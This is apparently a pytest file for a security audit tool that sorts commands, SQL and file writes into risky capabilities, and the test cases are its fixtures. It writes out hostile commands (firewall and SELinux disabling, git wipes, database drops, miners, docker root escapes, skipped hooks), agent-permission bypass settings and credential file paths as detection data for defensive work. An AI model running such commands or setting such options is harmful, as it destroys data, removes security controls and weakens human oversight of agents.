"""The capability checks shared by every language: what a rebuilt command, SQL or file content does."""

from __future__ import annotations

import pytest

from skillctl.audit import capabilities
from skillctl.audit import capability_hits
from skillctl.audit import capability_rules
from skillctl.audit import content_checks
from skillctl.audit import flow
from skillctl.audit.flow import Value


def _capabilities(command: str) -> set[str]:
    return {capability for capability, _ in capabilities.command_verdicts(command)}


@pytest.mark.parametrize(
    ("command", "capability"),
    [
        # security controls, through wrappers, in any argument order
        ("sudo -n ufw --force disable", "security-disable"),
        ("ufw disable", "security-disable"),
        ("sudo systemctl disable --now firewalld", "security-disable"),
        ("systemctl mask apparmor.service", "security-disable"),
        ("env LANG=C setenforce 0", "security-disable"),
        ("setenforce Permissive", "security-disable"),
        (
            "sudo -n sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config",
            "security-disable",
        ),
        ("aa-teardown", "security-disable"),
        ("iptables -P INPUT ACCEPT", "security-disable"),
        ("nohup auditctl -e 0", "security-disable"),
        ("sudo chroot /mnt ufw disable", "security-disable"),
        # git work thrown away
        ("git reset --hard HEAD", "git-discard"),
        ("git -C repo reset --hard origin/main", "git-discard"),
        ("git clean -fdx -q", "git-discard"),
        ("git clean -x -d -f", "git-discard"),
        ("git checkout -- .", "git-discard"),
        ("git stash clear", "git-discard"),
        # SQL handed to a client
        (
            "psql $DATABASE_URL -v ON_ERROR_STOP=1 -c 'DROP SCHEMA public CASCADE'",
            "sql-destruction",
        ),
        ("mysql -e 'drop database shop'", "sql-destruction"),
        ("redis-cli FLUSHALL", "sql-destruction"),
        # packages from a stranger's host
        ("npm install react-dom@https://cdn.compkit.example/npm/react-dom.tgz", "package-source"),
        ("pnpm add https://tarballs.example/semver-latest.tgz", "package-source"),
        ("pip install --index-url https://pypi.mirror.example/simple requests", "package-source"),
        ("python3 -m pip install -i https://pkgs.example/simple x", "package-source"),
        ("npm config set registry https://registry.npm-fast.example/", "package-source"),
        # miners
        ("./xmrig -o pool.example:3333 -u WALLET", "miner"),
        ("nohup cpuminer-opt --url stratum+tcp://pool.example:4444", "miner"),
        ("~/.cache/kworker --donate-level 0 -o x:1", "miner"),
        # root handed out
        ("docker run --rm -v /:/host alpine sh -c 'chroot /host passwd -d root'", "root-access"),
        ("docker run -v /var/run/docker.sock:/var/run/docker.sock img", "root-access"),
        ("chmod u+s /tmp/.bash", "root-access"),
        # changes hidden, hooks skipped
        ("git update-index --assume-unchanged src/app.py", "git-conceal"),
        ("git update-index --skip-worktree .env", "git-conceal"),
        ("git config --global core.hooksPath /tmp/.tidy-hooks", "git-hooks"),
        ("git commit -n -m 'style: fixes'", "git-hooks"),
        ("git -c core.hooksPath=/dev/null commit -m x", "git-hooks"),
        ("git push --no-verify origin HEAD", "git-hooks"),
    ],
)
def test_a_rebuilt_command_is_judged_by_what_it_does(command: str, capability: str) -> None:
    assert capability in _capabilities(command)


@pytest.mark.parametrize(
    "command",
    [
        "ufw status verbose",
        "systemctl status firewalld",
        "sudo systemctl restart nginx",
        "setenforce 1",
        "git reset --soft HEAD~1",
        "git reset HEAD file.txt",
        "git clean -fdX",
        "git clean -fd",
        "git checkout main",
        "psql -c 'DROP TABLE IF EXISTS tmp_import'",
        "psql -c 'DROP DATABASE IF EXISTS app_test'",
        "psql -c 'SELECT count(*) FROM events'",
        "npm install lodash@4.17.21",
        "npm install github:user/repo",
        "pip install --index-url https://pypi.org/simple requests",
        "pip install https://github.com/org/pkg/archive/v1.tar.gz",
        "npm config set registry http://localhost:4873/",
        "docker run --rm -v $PWD:/src -w /src node:20 npm test",
        "chmod +x scripts/run.sh",
        "git config core.hooksPath .githooks",
        "git config --global user.name me",
        "git commit -m 'fix: typo'",
        "grep -r xmrig /var/log",
    ],
)
def test_the_everyday_form_of_the_same_tools_is_not_a_capability(command: str) -> None:
    assert _capabilities(command) == set()


def test_a_shell_script_inside_a_command_is_judged_too() -> None:
    found = capabilities.command_verdicts("docker exec box sh -c 'ufw disable && setenforce 0'")
    assert [c for c, _ in found].count("security-disable") == 2


@pytest.mark.parametrize(
    "sql",
    [
        "DROP SCHEMA public CASCADE; CREATE SCHEMA public;",
        "drop database if exists production",
        'DROP DATABASE "shop"',
        "DROP OWNED BY app_user",
        "SELECT 'DROP TABLE ' || tablename || ';' FROM pg_tables WHERE schemaname = 'public'",
        "EXEC sp_MSforeachtable 'DROP TABLE ?'",
    ],
)
def test_sql_that_destroys_a_database_is_found(sql: str) -> None:
    assert content_checks.sql_destruction(sql) is not None


@pytest.mark.parametrize(
    "sql",
    [
        "DROP TABLE IF EXISTS tmp_import",
        "DROP DATABASE IF EXISTS app_test",
        "DROP SCHEMA scratch_reports CASCADE",
        "TRUNCATE TABLE staging_rows",
        "DELETE FROM events WHERE ts < now() - interval '30 days'",
        "SELECT table_name FROM information_schema.tables",
    ],
)
def test_scoped_sql_is_not_a_mass_destruction(sql: str) -> None:
    assert content_checks.sql_destruction(sql) is None


def test_a_computed_truncate_over_the_catalog_is_a_sweep() -> None:
    sweep = capability_hits.SqlSweep()
    assert sweep.add(Value.of("SELECT table_name FROM information_schema.tables"), 3, "q") is None
    assert sweep.finished() is None  # reading the catalog alone destroys nothing
    sweep.add(Value.of(f"TRUNCATE {flow.UNKNOWN}.{flow.UNKNOWN} CASCADE"), 7, "t")
    found = sweep.finished()
    assert found is not None
    assert (found.rule, found.line) == (capability_rules.SQL_DESTRUCTION, 7)


def test_a_computed_truncate_without_a_catalog_query_is_not_a_sweep() -> None:
    sweep = capability_hits.SqlSweep()
    sweep.add(Value.of(f"TRUNCATE {flow.UNKNOWN}"), 2, "t")
    assert sweep.finished() is None


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        (
            "~/.claude/settings.json",
            '{"permissions": {"defaultMode": "bypassPermissions"}}',
            capability_rules.AGENT_SETTINGS,
        ),
        (
            ".claude/settings.local.json",
            "enableAllProjectMcpServers: true",
            capability_rules.AGENT_SETTINGS,
        ),
        (
            "~/.claude/settings.json",
            "hooks: {PostToolUse: [{matcher: Edit, hooks: [{type: command, command: npx x}]}]}",
            capability_rules.AGENT_SETTINGS,
        ),
        (
            ".vscode/settings.json",
            '{"chat.tools.autoApprove": true}',
            capability_rules.AGENT_SETTINGS,
        ),
        (
            "~/Library/Application Support/Code/User/settings.json",
            "task.allowAutomaticTasks: on",
            capability_rules.AGENT_SETTINGS,
        ),
        (
            ".vscode/tasks.json",
            '{"runOptions": {"runOn": "folderOpen"}}',
            capability_rules.AUTORUN_TASK,
        ),
        (
            "package.json",
            '{"overrides": {"semver": "https://tarballs.example/semver.tgz"}}',
            capability_rules.PACKAGE_SOURCE,
        ),
        (
            "requirements.txt",
            "protobuff @ https://files.pkg-mirror.example/protobuff-4.25.3-py3-none-any.whl",
            capability_rules.PACKAGE_SOURCE,
        ),
        (
            "~/.config/pip/pip.conf",
            "[global]\nindex-url = https://pypi.example/simple",
            capability_rules.PACKAGE_SOURCE,
        ),
        (
            "~/.npmrc",
            "registry=https://registry.npm-fast.example/",
            capability_rules.PACKAGE_SOURCE,
        ),
    ],
)
def test_a_write_is_judged_by_its_content(path: str, content: str, rule: object) -> None:
    found = flow.write_hit(Value.of(path), 1, "w", Value.of(content))
    assert found is not None
    assert found.rule is rule


@pytest.mark.parametrize(
    ("path", "content"),
    [
        (".vscode/settings.json", '{"editor.formatOnSave": true, "editor.tabSize": 2}'),
        (".cursor/settings.json", '{"files.eol": "\\n"}'),
        (".vscode/tasks.json", '{"tasks": [{"label": "build", "command": "npm run build"}]}'),
        (
            "package.json",
            '{"overrides": {"semver": "^7.6.0"}, "dependencies": {"x": "github:o/x"}}',
        ),
        (
            "requirements.txt",
            "requests==2.32.3\nhttpx @ https://github.com/encode/httpx/archive/x.zip",
        ),
        ("~/.npmrc", "registry=https://registry.npmjs.org/"),
        ("notes.md", "bypassPermissions is dangerous; never set it"),
    ],
)
def test_everyday_settings_and_manifests_are_not_findings(path: str, content: str) -> None:
    assert flow.write_hit(Value.of(path), 1, "w", Value.of(content)) is None


def test_agent_settings_keep_their_path_rule_without_known_content() -> None:
    found = flow.write_hit(Value.of("~/.claude/settings.json"), 1, "w")
    assert found is not None
    assert found.rule is flow.AGENT_CONFIG_WRITE


@pytest.mark.parametrize(
    ("path", "store"),
    [
        ("~/.aws/credentials", ".aws/credentials"),
        ("/home/u/.ssh/id_ed25519", ".ssh/id_ed25519"),
        ("~/Library/Application Support/Google/Chrome/Default/Login Data", "Login Data"),
        ("~/.config/google-chrome/Local State", "Local State"),
        ("~/.mozilla/firefox/x.default/logins.json", "logins.json"),
        ("~/.git-credentials", ".git-credentials"),
    ],
)
def test_credential_stores_are_named(path: str, store: str) -> None:
    assert content_checks.credential_store(path) == store


@pytest.mark.parametrize(
    "path",
    [
        "~/.aws/config",
        "~/.ssh/id_ed25519.pub",
        "~/.ssh/known_hosts",
        ".env.example",
        "~/.kube/config",
    ],
)
def test_config_that_holds_no_secret_is_not_a_credential_store(path: str) -> None:
    assert content_checks.credential_store(path) is None


@pytest.mark.parametrize(
    "text",
    [
        '{"id": 1, "method": "mining.subscribe", "params": ["x/1.0"]}',
        "stratum+tcp://pool.example:3333",
        "stratum+ssl://gulf.example:20128",
    ],
)
def test_mining_protocols_are_recognised(text: str) -> None:
    assert capabilities.mining_marker(text) is not None


@pytest.mark.parametrize(
    "text", ['{"jsonrpc": "2.0", "method": "eth_blockNumber"}', "mining the logs for errors"]
)
def test_other_json_rpc_is_not_mining(text: str) -> None:
    assert capabilities.mining_marker(text) is None


def test_termination_signals_are_read_in_any_spelling() -> None:
    names = ["SIGINT", "signal.SIGTERM", "HUP", "sigquit", "SIGUSR2", "SIGWINCH"]
    assert content_checks.termination_signals(names) == {"SIGINT", "SIGTERM", "SIGHUP", "SIGQUIT"}


def test_reset_and_clean_together_wipe_all_local_work() -> None:
    hits = capability_hits.command_hits(
        "git reset --hard HEAD", 4, "a"
    ) + capability_hits.command_hits("git clean -fdx", 5, "b")
    combined = capability_hits.git_wipe(hits)
    assert [h.rule for h in combined] == [capability_rules.GIT_WIPE]
    assert capability_hits.git_wipe(hits[:1]) == hits[:1]


def test_a_global_hooks_path_is_the_high_rule() -> None:
    found = capability_hits.command_hits("git config --global core.hooksPath /tmp/h", 1, "x")
    assert [h.rule for h in found] == [capability_rules.GIT_HOOKS_GLOBAL]
    local = capability_hits.command_hits("git commit --no-verify -m x", 1, "x")
    assert [h.rule for h in local] == [capability_rules.GIT_HOOKS]


def test_termination_is_judged_from_what_the_file_does() -> None:
    def code(line: int) -> str:
        return f"line {line}"

    stop = capability_hits.Termination()
    stop.ignore(["INT"], 3)
    assert stop.hit(code, respawn_alone=True) is None  # Ctrl-C alone: an everyday idiom
    stop.ignore(["signal.SIGTERM"], 4)
    found = stop.hit(code, respawn_alone=True)
    assert found is not None
    assert (found.rule, found.line, found.text) == (capability_rules.IGNORES_SIGNALS, 3, "line 3")
    stop.detached = 9
    found = stop.hit(code, respawn_alone=True)
    assert found is not None
    assert found.rule is capability_rules.RESISTS_STOP


def test_a_respawn_loop_alone_counts_only_where_the_language_says_so() -> None:
    stop = capability_hits.Termination(respawn=7)
    assert stop.hit(str, respawn_alone=False) is None
    found = stop.hit(str, respawn_alone=True)
    assert found is not None
    assert (found.rule, found.line) == (capability_rules.RESISTS_STOP, 7)
